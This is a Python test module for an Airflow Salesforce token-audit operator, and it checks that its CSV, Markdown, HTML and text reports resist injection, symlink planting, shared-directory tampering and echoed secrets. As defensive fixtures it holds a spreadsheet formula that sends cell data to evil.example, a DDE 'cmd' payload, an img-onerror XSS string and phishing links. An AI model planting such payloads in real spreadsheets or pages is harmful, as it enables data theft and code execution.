"""Audit reports are read by people, spreadsheets and browsers, and written on shared hosts.

Threats covered (each test failed on the code before the fix):

* CSV injection — an app name or username chosen by whoever registers a connected app starts with
  ``=``/``@``/``+``/``-``: the cell is neutralised in ``audit.csv`` (and in the nightly example's
  CSV, tested in tests/examples).
* Markdown/HTML injection — ``<img onerror=…>``, tracking images and phishing links in app names
  are escaped in ``audit.md`` and ``audit.html``.
* Planted symlinks — a symlink at ``audit.json.tmp`` or ``audit.json`` pointing at the victim's
  file is never followed; reports are written through ``mkstemp`` temp files and atomic renames.
* Shared directories — a report folder that other users can write, or that another user owns, is
  refused; report files and folders follow the umask (never writable by group or others) unless
  the caller asks for another mode.
* Echoed secrets — a server that echoes the consumer secret (or any token-like string) in its
  ``error_description`` does not get it into the reports or XCom.
"""

from __future__ import annotations

import csv
import http.server
import json
import os
import stat
import threading
from pathlib import Path
from typing import Any, Iterator

import pytest
from tests.airflow_compat import AirflowFailException

from sf_oauth_provider.operators.audit import SalesforceTokenAuditOperator
from tests.operators.test_audit import context

HOSTILE_APP = '=HYPERLINK("https://evil.example/steal?d="&A1,"Click") <img src=x onerror=alert(1)> [login](https://evil.example) ![t](https://evil.example/pixel.gif)'
HOSTILE_USER = "@SUM(1+1)*cmd|' /C calc'!A0"


def _make_hostile(org: Any) -> None:
    """Rename a connected app and a user as an attacker who registers apps could."""
    org.app_by_name_or_key("Tableau").name = HOSTILE_APP
    org.user_by_username("analyst@demo.example").username = HOSTILE_USER


def _audit(tmp_path: Path, **kwargs: Any) -> dict[str, Any]:
    kwargs.setdefault("report_dir", str(tmp_path / "report"))
    return SalesforceTokenAuditOperator(task_id="audit", introspect_inventory=False, **kwargs).execute(context())


def test_csv_cells_from_salesforce_are_neutralised(sf_connections, emulator, tmp_path):
    _make_hostile(emulator.org)
    result = _audit(tmp_path)
    with open(result["report_files"]["csv"], newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    cells = [value for row in rows for value in row.values() if value]
    assert any(HOSTILE_APP in c for c in cells) and any(HOSTILE_USER in c for c in cells)
    dangerous = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert dangerous == []
    assert "'" + HOSTILE_APP in cells  # neutralised, not dropped: the reviewer still sees the name


def test_markdown_and_html_reports_escape_hostile_names(sf_connections, emulator, tmp_path):
    _make_hostile(emulator.org)
    result = _audit(tmp_path)
    md = Path(result["report_files"]["md"]).read_text(encoding="utf-8")
    assert "Tableau" not in md and "HYPERLINK" in md  # the hostile app is in the report ...
    assert "<img" not in md and "](https://evil" not in md and "![" not in md  # ... but inert
    html = Path(result["report_files"]["html"]).read_text(encoding="utf-8")
    assert "HYPERLINK" in html and "<img" not in html and "&lt;img src=x onerror=alert(1)&gt;" in html


LINK_APP = "Reauthorize at https://evil.example/login or HTTPS://evil.example (mailto:help@evil.example)"
LINK_USER = "www.evil.example"


def _github_html(markdown: str) -> str:
    """``markdown`` as GitHub renders it: cmark-gfm with its table and autolink extensions."""
    import cmarkgfm

    return cmarkgfm.github_flavored_markdown_to_html(markdown)


def _visible_text(html_text: str) -> str:
    import html
    import re

    return html.unescape(re.sub(r"<[^>]+>", "", html_text))


def test_markdown_report_has_no_links_as_github_renders_it(sf_connections, emulator, tmp_path):
    """GitHub turns bare ``https://…``, ``www.…`` and e-mail addresses into links (autolinks): app and
    user names chosen by whoever registers a connected app must not become phishing links."""
    org = emulator.org
    org.app_by_name_or_key("Tableau").name = LINK_APP
    org.user_by_username("analyst@demo.example").username = LINK_USER
    result = _audit(tmp_path)
    rendered = _github_html(Path(result["report_files"]["md"]).read_text(encoding="utf-8"))
    assert "<table>" in rendered and "<a " not in rendered  # no link at all, usernames included
    text = _visible_text(rendered)
    assert LINK_APP in text and LINK_USER in text  # the names read exactly as Salesforce has them


@pytest.mark.parametrize("value", [
    "Reauthorize at https://evil.example/login", "HTTPS://evil.example", "ftp://evil.example/x",
    "www.evil.example", "x_www.evil.example", "(www.evil.example)", "analyst@demo.example",
    "mailto:a.b+c@evil.example", "xmpp:ops@evil.example/res", "https://user@evil.example/p_a_t_h",
    "see <https://evil.example> or [login](https://evil.example) | next cell", "a_b*c`d`~e~ 1. # x",
])
def test_md_cell_is_inert_and_reads_the_same_on_github(value):
    from sf_oauth_provider.reporting import md_cell

    rendered = _github_html(f"| name |\n|---|\n| {md_cell(value)} |\n")
    assert "<a " not in rendered and "<img" not in rendered and "<em>" not in rendered
    assert _visible_text(rendered).split("name", 1)[1].strip() == value


def test_planted_symlinks_are_not_followed(sf_connections, emulator, tmp_path):
    report_dir = tmp_path / "report"
    report_dir.mkdir(mode=0o700)
    victim = tmp_path / "victim_bashrc"
    victim.write_text("alias ls='ls --color'\n")
    (report_dir / "audit.json.tmp").symlink_to(victim)
    (report_dir / "audit.csv").symlink_to(victim)
    result = _audit(tmp_path, report_dir=str(report_dir))
    assert victim.read_text() == "alias ls='ls --color'\n"
    for path in result["report_files"].values():
        assert not Path(path).is_symlink() and Path(path).is_file()
    assert (report_dir / "audit.json.tmp").is_symlink()  # not ours: left alone, never written through


@pytest.fixture
def umask():
    """Set the process umask for one test (restored after)."""
    before = os.umask(0o077)
    os.umask(before)
    yield lambda mask: os.umask(mask)
    os.umask(before)


# umask -> (file mode, folder mode): the umask decides who may read, as for Airflow's own logs;
# group and others never get write (a folder they can write is refused anyway: they could swap reports)
UMASK_MODES = {0o022: (0o644, 0o755), 0o027: (0o640, 0o750), 0o077: (0o600, 0o700), 0o002: (0o644, 0o755)}


@pytest.mark.parametrize("mask", list(UMASK_MODES), ids=[oct(m) for m in UMASK_MODES])
def test_report_files_follow_the_umask_unless_asked(sf_connections, emulator, tmp_path, umask, mask):
    """Reports were 0600 in 0700 folders whatever the umask: a reporting group could not read them."""
    umask(mask)
    result = _audit(tmp_path, report_dir=str(tmp_path / "new" / "report"))
    modes = {Path(p).name: stat.S_IMODE(os.stat(p).st_mode) for p in result["report_files"].values()}
    file_mode, folder_mode = UMASK_MODES[mask]
    assert set(modes.values()) == {file_mode}, modes
    assert stat.S_IMODE((tmp_path / "new" / "report").stat().st_mode) == folder_mode
    assert stat.S_IMODE((tmp_path / "new").stat().st_mode) == folder_mode
    shared = _audit(tmp_path, report_dir=str(tmp_path / "shared"), report_file_mode=0o640)
    assert {stat.S_IMODE(os.stat(p).st_mode) for p in shared["report_files"].values()} == {0o640}


def test_example_outputs_follow_the_umask(tmp_path, umask):
    from sf_oauth_provider.reporting import ReportFolder

    umask(0o027)
    written = ReportFolder(tmp_path / "out" / "nightly_batch_report", "output_dir").write_text("a.csv", "x\n")
    assert stat.S_IMODE(os.stat(written).st_mode) == 0o640
    assert stat.S_IMODE((tmp_path / "out" / "nightly_batch_report").stat().st_mode) == 0o750


@pytest.mark.parametrize("mode", [0o777, 0o770, 0o1777])
def test_a_report_dir_other_users_can_write_is_refused(sf_connections, emulator, tmp_path, mode):
    shared = tmp_path / "shared"
    shared.mkdir()
    shared.chmod(mode)
    with pytest.raises(AirflowFailException, match="report_dir .* other users can write"):
        _audit(tmp_path, report_dir=str(shared))
    assert list(shared.iterdir()) == []


@pytest.mark.skipif(os.geteuid() != 0, reason="needs root to give the folder to another real user")
def test_a_report_dir_owned_by_another_user_is_refused(sf_connections, emulator, tmp_path):
    import pwd

    theirs = tmp_path / "theirs"
    theirs.mkdir(mode=0o755)
    os.chown(theirs, pwd.getpwnam("nobody").pw_uid, -1)
    with pytest.raises(AirflowFailException, match="report_dir .* owned by another user"):
        _audit(tmp_path, report_dir=str(theirs))
    assert list(theirs.iterdir()) == []


# ---- a token endpoint that echoes what it was sent ------------------------------------------------
INVENTED_TOKEN = "00D5g000004HOST!AQ" + "x7" * 40


class _EchoHandler(http.server.BaseHTTPRequestHandler):
    def do_POST(self) -> None:  # noqa: N802 (http.server's naming)
        length = int(self.headers.get("content-length") or 0)
        body = self.rfile.read(min(length, 65536)).decode("utf-8", "replace")
        from urllib.parse import parse_qsl

        form = dict(parse_qsl(body))
        echoed = f"invalid client credentials: secret={form.get('client_secret')} session={INVENTED_TOKEN}"
        payload = json.dumps({"error": "invalid_client", "error_description": echoed}).encode()
        self.send_response(400)
        self.send_header("content-type", "application/json")
        self.send_header("content-length", str(len(payload)))
        self.end_headers()
        self.wfile.write(payload)

    def log_message(self, *args: Any) -> None:
        pass


@pytest.fixture
def echo_server() -> Iterator[str]:
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _EchoHandler)
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}"
    finally:
        server.shutdown()
        server.server_close()
        thread.join(10)


def test_secrets_echoed_by_the_server_are_redacted_from_reports_and_xcom(
    sf_connections, set_connection, emulator, tmp_path, echo_server
):
    secret = "S3cr3t-echoed-back-0123456789abcdef"
    set_connection("sf_echo", {
        "conn_type": "salesforce_oauth", "host": echo_server, "login": "3MVG9echo", "password": secret,
        "extra": {"auth_flow": "client_credentials", "cache": "none"},
    })
    ctx = context()
    result = SalesforceTokenAuditOperator(
        task_id="audit", conn_ids=["sf_echo"], inventory=False, report_dir=str(tmp_path / "r")
    ).execute(ctx)
    texts = [Path(p).read_text(encoding="utf-8") for p in result["report_files"].values()]
    texts.append(json.dumps(result))
    report = json.loads(Path(result["report_files"]["json"]).read_text(encoding="utf-8"))
    assert "invalid client credentials" in json.dumps(report["findings"])  # the error is reported ...
    for text in texts:
        assert secret not in text and INVENTED_TOKEN not in text  # ... without what it echoed


# ---- the example DAG's audit-summary.txt names app and user, neutralised (issue 27) -------------
def _example_notifier(location: Path) -> Any:
    import importlib.util

    path = Path(__file__).resolve().parents[2] / "dags_examples" / "token_audit.py"
    spec = importlib.util.spec_from_file_location("sf_example_token_audit", path)
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module.AuditSummaryNotifier(location=str(location))


def test_the_audit_summary_names_app_and_user_neutralised(sf_connections, emulator, tmp_path):
    org = emulator.org
    _make_hostile(org)
    org.user_by_username("former@demo.example").username = "www.evil.example\nnew: sha256:000000000000 forged"
    result = _audit(tmp_path, on_findings=_example_notifier(tmp_path / "report"))
    text = (tmp_path / "report" / "audit-summary.txt").read_text(encoding="utf-8")
    listed = [ln for ln in text.splitlines() if ln.startswith("new: ")]
    assert len(listed) == len(result["new_finding_fingerprints"]) > 0  # one line each, no forged line
    report = json.loads(Path(result["report_files"]["json"]).read_text(encoding="utf-8"))
    row = next(r for r in report["findings"] if r["app"] == HOSTILE_APP)
    line = next(ln for ln in listed if row["fingerprint"] in ln)
    assert row["kind"] in line and "app ''=HYPERLINK(" in line  # a formula start is neutralised ...
    assert "https[:]//evil.example" in line  # ... and links are defanged, as in the other formats
    assert "https://" not in text and "www.evil" not in text and "www[.]evil.example" in text
    assert not any(ln.startswith("new: sha256:000000000000") for ln in text.splitlines())
